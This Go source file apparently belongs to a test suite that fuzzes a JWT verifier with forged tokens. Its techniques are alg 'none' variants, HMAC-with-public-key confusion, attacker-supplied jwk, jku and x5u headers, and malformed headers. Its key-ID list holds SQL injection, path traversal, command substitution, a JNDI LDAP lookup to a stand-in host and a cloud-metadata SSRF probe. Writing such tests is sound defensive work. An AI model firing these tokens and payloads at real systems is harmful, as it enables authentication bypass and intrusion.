package forgery

import (
	"crypto/ecdsa"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/pem"
	"strings"
)

// unsigned says that it need not be checked.
func (f *Forger) unsigned() string {
	none := []byte("none")
	for i := range none {
		if f.IntN(2) == 0 {
			none[i] -= 'a' - 'A'
		}
	}
	alg := pick(f, string(none), string(none), string(none), "none ", " none", "nоne", "n\u200bone", "NULL", "null", "", "plain")
	changes := object{"alg": alg}
	if f.IntN(4) == 0 {
		changes["kid"] = nil
	}
	text := encode([]byte(marshal(with(f.header(), changes)))) + "." + encode([]byte(marshal(f.fresh())))
	return text + pick(f, ".", ".", "", "."+f.parts[2], "."+encode([]byte(f.word())), "."+encode(flat(sign(f.victim.Key, text))))
}

// confused takes what is public for the secret of an HMAC.
func (f *Forger) confused() string {
	algorithm, size := pick(f, "HS256", "HS384", "HS512", "ES256", "hs256"), sha256.New
	switch algorithm {
	case "HS384":
		size = sha512.New384
	case "HS512":
		size = sha512.New
	}
	text := encode([]byte(marshal(with(f.header(), object{"alg": algorithm})))) + "." + encode([]byte(marshal(f.fresh())))
	mac := hmac.New(size, pick(f, f.publicForms()...))
	mac.Write([]byte(text))
	return text + "." + encode(mac.Sum(nil))
}

// publicForms are the bytes that a verifier may hold member's key as.
func (f *Forger) publicForms() [][]byte {
	point, errPoint := f.victim.Key.PublicKey.Bytes()
	der, errDER := x509.MarshalPKIXPublicKey(&f.victim.Key.PublicKey)
	if errPoint != nil || errDER != nil {
		return [][]byte{nil}
	}
	text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	x, y := encode(point[1:1+half]), encode(point[1+half:])
	jwk := `{"kty":"EC","crv":"P-256","x":"` + x + `","y":"` + y + `"}`
	return [][]byte{
		point, point[1:], point[1 : 1+half], der, text, []byte(strings.TrimSpace(string(text))), []byte(jwk),
		[]byte(x), []byte(x + y), []byte(f.victim.KeyID), nil, []byte("secret"), []byte("dailyfeed"),
	}
}

// ofStranger is signed well, with a key that member never had.
func (f *Forger) ofStranger() string {
	own := f.jwk(f.stranger)
	url := "https://" + f.word() + ".example/" + f.word()
	changes := pick(f,
		object{}, object{}, object{"kid": f.word()}, object{"jwk": own}, object{"jwk": own, "kid": f.word()}, object{"jwk": own, "kid": nil},
		object{"jku": url}, object{"jku": url, "kid": f.word()}, object{"x5u": url}, object{"x5c": []string{encode([]byte(f.word()))}}, object{"x5t": f.word()},
		object{"kid": own}, object{"alg": "ES384"}, object{"alg": "ES512"}, object{"alg": "ES256K"}, object{"alg": "RS256"}, object{"alg": "PS256"}, object{"alg": "EdDSA"},
	)
	return signedWith(f.stranger, marshal(with(f.header(), changes)), marshal(f.fresh()))
}

func (f *Forger) jwk(key *ecdsa.PrivateKey) object {
	point, err := key.PublicKey.Bytes()
	if err != nil {
		return nil
	}
	return object{"kty": "EC", "crv": "P-256", "alg": "ES256", "use": "sig", "x": encode(point[1 : 1+half]), "y": encode(point[1+half:]), "kid": f.word()}
}

// oddKeyID is signed with member's own key, but does not name it.
func (f *Forger) oddKeyID() string {
	id := f.victim.KeyID
	var kid any = pick(f,
		f.word(), f.word()+"-"+f.word(), "", " "+id, id+" ", id+"\n", id+"\x00", id+"\x00"+f.word(), "\x00", strings.ToUpper(id)+"x", id[:len(id)-1], id+id, id+"/", "./"+id, id+"#"+f.word(), id+"?"+f.word(), id+",", "%"+id, id+"%00", "*", ".*", id[:1]+"*",
		"../../../../../../dev/null", "/dev/null", `..\..\windows\win.ini`, "/proc/sys/kernel/randomize_va_space", "file:///etc/passwd",
		"' OR '1'='1", "' UNION SELECT '"+f.word()+"' -- ", `"; DROP TABLE jwt_keys; --`, id+"' -- ", "$(sleep 10)", "|id", "`id`", "{{7*7}}", "${jndi:ldap://"+f.word()+".example/a}",
		"https://"+f.word()+".example/jwks.json", "http://169.254.169.254/latest/meta-data/", "//"+f.word()+".example", "data:application/json,{}",
		strings.Repeat("k", 1+f.IntN(2000)), "키", "\u202e"+id, "ＫＥＹ", "null", "undefined", "0", "__proto__", "member:authentication:blacklist:*",
	)
	if f.IntN(8) == 0 {
		kid = pick[any](f, f.IntN(1000), true, []string{id}, object{"$ne": nil}, object{"kid": id}, []any{}, 1.5)
	}
	return f.signed(marshal(with(f.header(), object{"kid": kid})), marshal(f.fresh()))
}

// oddHeader is signed with member's own key, and offers to be read otherwise.
func (f *Forger) oddHeader() string {
	value := f.word()
	changes := pick(f,
		object{"crit": []string{"exp"}}, object{"crit": []string{value}, value: 1}, object{"crit": []string{}}, object{"crit": "exp"}, object{"crit": []string{"b64"}, "b64": false},
		object{"b64": false}, object{"b64": true}, object{"zip": "DEF"}, object{"zip": value}, object{"enc": "A128GCM"}, object{"cty": "JWT"}, object{"cty": value},
		object{"jwk": f.jwk(f.victim.Key)}, object{"jku": "https://" + value + ".example"}, object{"x5u": "https://" + value + ".example"}, object{"x5c": []string{value}}, object{"x5t#S256": value},
		object{"typ": nil}, object{"typ": "jwt"}, object{"typ": "at+jwt"}, object{"typ": "JWE"}, object{"typ": "application/jwt"}, object{"typ": 1}, object{"typ": value}, object{"typ": ""}, object{"typ": []string{"JWT"}},
		object{"alg": nil}, object{"alg": "es256"}, object{"alg": "ES256 "}, object{"alg": []string{"ES256"}}, object{"alg": "ES384"}, object{"alg": "HS256"}, object{"alg": "RS256"}, object{"alg": "ESP256"}, object{"alg": value}, object{"alg": 256},
		object{"kid": nil}, object{"ALG": "none"}, object{"Kid": value}, object{value + "x": value}, object{"iss": "dailyfeed"}, object{"nonce": value}, object{"exp": 1},
	)
	if f.IntN(10) == 0 {
		raw := marshal(f.header())
		return f.signed(pick(f, "", "{}", "null", "[]", `"ES256"`, "["+raw+"]", raw+raw, raw+" x", raw[:len(raw)-1], raw[:len(raw)-1]+",}", "\ufeff"+raw, strings.ToUpper(raw), strings.ReplaceAll(raw, `"`, `'`), strings.Repeat("[", 1+f.IntN(500))), marshal(f.fresh()))
	}
	return f.signed(marshal(with(f.header(), changes)), marshal(f.fresh()))
}
